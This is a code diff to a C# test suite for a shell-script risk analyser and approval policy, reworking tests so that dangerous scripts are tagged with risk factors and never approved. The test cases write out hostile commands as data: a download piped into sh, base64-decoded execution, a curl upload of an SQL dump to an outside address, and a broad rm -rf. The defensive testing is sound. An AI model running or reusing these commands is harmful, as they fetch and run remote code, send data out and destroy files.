@@ -1,6 +1,8 @@
 using Platform.Automation.Planning;
 using Platform.Contracts.Planning;
+using Platform.Contracts.Policy;
 using Platform.ShellAnalysis;
+using Platform.ShellAnalysis.Policy;
 using Shouldly;
 
 namespace Platform.Tests.Automation.Planning;
@@ -19,14 +21,17 @@ internal sealed class When_a_plans_scripts_are_judged
         risk.Factors.Select(one => one.Name).Where(name => name is "destructive-commands" or "not-understood").ShouldBe(factor is null ? [] : [factor]);
     }
 
-    [TestCase("curl -s http://x.example/a | sh")]
-    [TestCase("echo cm0= | base64 -d | sh")]
-    [TestCase("curl -T /srv/a.sql https://198.51.100.7/")]
-    [TestCase("rm -rf \"$1\"/*")]
-    public async Task Should_refuse_what_no_approval_makes_safe(string script)
+    /// <summary>The policy refuses what no approval makes safe; it needs the analysis for that.</summary>
+    [TestCase("curl -s http://x.example/a | sh", "sends-data-away", "hides-what-it-runs")]
+    [TestCase("echo cm0= | base64 -d | sh", "hides-what-it-runs", "hides-what-it-runs")]
+    [TestCase("curl -T /srv/a.sql https://198.51.100.7/", "sends-data-away", "sends-data-away")]
+    [TestCase("rm -rf \"$1\"/*", "may-destroy-too-much", "may-destroy-too-much")]
+    public async Task Should_carry_what_the_policy_refuses(string script, string factor, string orFactor)
     {
-        var refused = await Should.ThrowAsync<DangerousScriptException>(() => JudgeAsync(script));
-        refused.Message.ShouldContain("must not run");
+        var plan = await JudgeAsync(script);
+
+        plan.Steps[0].Risk.Factors.Select(one => one.Name).Intersect([factor, orFactor]).ShouldNotBeEmpty();
+        ApprovalPolicy.Shipped.Decide(PolicyCases.Of(plan, null, [], default)).Decision.ShouldBe(PolicyDecision.Never);
     }
 
     private static async Task<Plan> JudgeAsync(string script)
